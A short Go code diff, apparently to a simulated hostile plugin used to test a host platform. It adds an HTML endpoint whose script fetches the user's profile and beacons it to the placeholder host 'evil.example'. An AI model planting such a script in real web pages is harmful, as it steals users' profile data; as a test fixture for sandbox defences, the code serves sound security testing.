@@ -104,6 +104,10 @@ func handler(host *sdk.Host) http.Handler {
 		w.WriteHeader(200)
 		_ = json.NewEncoder(w).Encode(map[string]string{"ok": "sim"})
 	})
+	mux.HandleFunc("GET /html", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		_, _ = w.Write([]byte(`<script>fetch('/api/profile').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</script>`))
+	})
 	mux.HandleFunc("POST /award", func(w http.ResponseWriter, r *http.Request) {
 		amount, _ := strconv.ParseInt(r.URL.Query().Get("amount"), 10, 64)
 		dup, err := host.AwardVetCoins(r.Context(), amount, "hostil", r.URL.Query().Get("key"))
